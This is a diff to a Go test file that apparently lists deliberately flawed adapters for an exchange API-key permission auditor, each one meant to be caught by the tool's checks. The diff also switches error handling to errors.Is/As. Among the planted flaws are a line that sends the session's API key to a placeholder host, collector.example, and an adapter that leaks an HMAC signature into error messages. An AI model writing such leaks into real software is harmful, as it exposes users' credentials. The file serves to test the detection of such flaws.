@@ -4,6 +4,7 @@ import (
 	"context"
 	"encoding/base64"
 	"encoding/json"
+	"errors"
 	"net/http"
 	"strings"
 	"sync/atomic"
@@ -29,7 +30,7 @@ func after(f func(*audit.Snapshot)) func(*steps) {
 	return func(do *steps) { do.after = func(_ *audit.Session, s *audit.Snapshot) { f(s) } }
 }
 
-// refusing changes what the adapter makes of a refusal.
+// misread changes what the adapter makes of a refusal.
 func misread(f func(*audit.Error)) func(*steps) {
 	return func(do *steps) {
 		do.refusal = func(_ *audit.Session, err *audit.Error) error { f(err); return err }
@@ -59,7 +60,7 @@ func setGrant(s *audit.Snapshot, capability audit.Capability, state audit.State)
 // optimist takes whatever it can't read for a key without rights.
 func optimist(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
 	found, err := next(ctx, s)
-	if e, ok := err.(*audit.Error); ok && e.Kind == audit.KindNotUnderstood {
+	if errors.Is(err, audit.KindNotUnderstood) {
 		found, err = &audit.Snapshot{}, nil
 		setGrant(found, audit.Withdraw, audit.Denied)
 	}
@@ -152,6 +153,13 @@ var flaws = []flaw{
 	{name: "a wrong capability", property: "round-trip", steps: after(func(s *audit.Snapshot) {
 		setGrant(s, audit.Withdraw, s.Grant(audit.TradeFutures).State)
 	})},
+	{
+		name: "what a key may hold read as denied", property: "round-trip", steps: after(func(s *audit.Snapshot) { setGrant(s, audit.TradeMargin, audit.Denied) }),
+		adapter: func(e *audit.Exchange) { e.Coverage.Tells = append(e.Coverage.Tells, audit.TradeMargin) },
+		fake: func(d *definition) {
+			d.perhaps = map[string][]audit.Capability{"spot.trade": {audit.TradeMargin}}
+		},
+	},
 	{name: "a right not granted", property: "round-trip", steps: after(func(s *audit.Snapshot) { setGrant(s, audit.TradeSpot, audit.Unknown) })},
 	{name: "a sub-account taken for a main one", property: "round-trip", steps: after(func(s *audit.Snapshot) { s.Account.Kind = audit.MainAccount })},
 	{name: "the expiry dropped", property: "round-trip", steps: after(func(s *audit.Snapshot) { s.Expires = time.Time{} })},
@@ -228,7 +236,7 @@ var flaws = []flaw{
 	})},
 	{name: "the answer's code ignored", property: "failures", adapter: wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
 		found, err := next(ctx, s)
-		if e, ok := err.(*audit.Error); ok && e.Status == http.StatusOK {
+		if e := (*audit.Error)(nil); errors.As(err, &e) && e.Status == http.StatusOK {
 			return &audit.Snapshot{}, nil
 		}
 		return found, err
@@ -268,7 +276,7 @@ var flaws = []flaw{
 	}},
 	{name: "the signature in the error", property: "secrecy", adapter: wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
 		found, err := next(ctx, s)
-		if e, ok := err.(*audit.Error); ok {
+		if e := (*audit.Error)(nil); errors.As(err, &e) {
 			signature, _ := s.Sign(ctx, audit.HMACSHA256, "x")
 			e.Message = base64.StdEncoding.EncodeToString(append([]byte("sign:"), signature...))
 		}
@@ -306,7 +314,7 @@ var flaws = []flaw{
 	}},
 
 	{name: "goes past the session", property: "no-bypass", adapter: wrapped(func(ctx context.Context, s *audit.Session, next inspect) (*audit.Snapshot, error) {
-		if resp, err := http.Get("https://collector.example/?key=" + s.Key()); err == nil { //nolint:noctx // that is the flaw
+		if resp, err := http.Get("https://collector.example/?key=" + s.Key()); err == nil {
 			_ = resp.Body.Close()
 		}
 		return next(ctx, s)
